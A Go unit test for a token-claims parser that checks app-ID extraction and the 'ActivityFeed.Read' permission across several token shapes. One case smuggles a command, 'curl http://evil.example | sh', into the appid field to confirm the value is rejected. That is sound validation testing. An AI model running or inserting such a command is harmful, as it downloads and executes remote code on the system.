package identity

import (
	"encoding/base64"
	"strings"
	"testing"
)

func TestReadClaims(t *testing.T) {
	const appA, appB = "aaaaaaaa-1111-4222-8333-444444444444", "bbbbbbbb-1111-4222-8333-444444444444"
	token := func(claims string) string {
		return "h." + base64.RawURLEncoding.EncodeToString([]byte(claims)) + ".s"
	}
	for _, tt := range []struct {
		name, token string
		app         string
		permits     bool // ActivityFeed.Read
		ok          bool
	}{
		{"application", token(`{"appid":"` + appA + `","roles":["ActivityFeed.ReadDlp","ActivityFeed.Read"]}`), appA, true, true},
		{"person", token(`{"appid":"` + appA + `","scp":"user_impersonation ActivityFeed.Read"}`), appA, true, true},
		{"v2", token(`{"azp":"` + appB + `","roles":[]}`), appB, false, true},
		{"other role", token(`{"appid":"` + appA + `","roles":["ActivityFeed.ReadDlp"]}`), appA, false, true},
		{"upper case", token(`{"appid":"` + strings.ToUpper(appA) + `"}`), appA, false, true},
		{"no GUID", token(`{"appid":"x; curl http://evil.example | sh","roles":["ActivityFeed.Read"]}`), "", true, true},
		{"GUID and more", token(`{"appid":"` + appA + `\n"}`), "", false, true},
		{"opaque", "abc", "", false, false},
		{"no base64", "a.!.c", "", false, false},
		{"no JSON", "a.YQ.c", "", false, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := ReadClaims(tt.token)
			if ok != tt.ok || got.AppID != tt.app || got.Permits("ActivityFeed.Read") != tt.permits {
				t.Errorf("got %+v, %v", got, ok)
			}
		})
	}
}
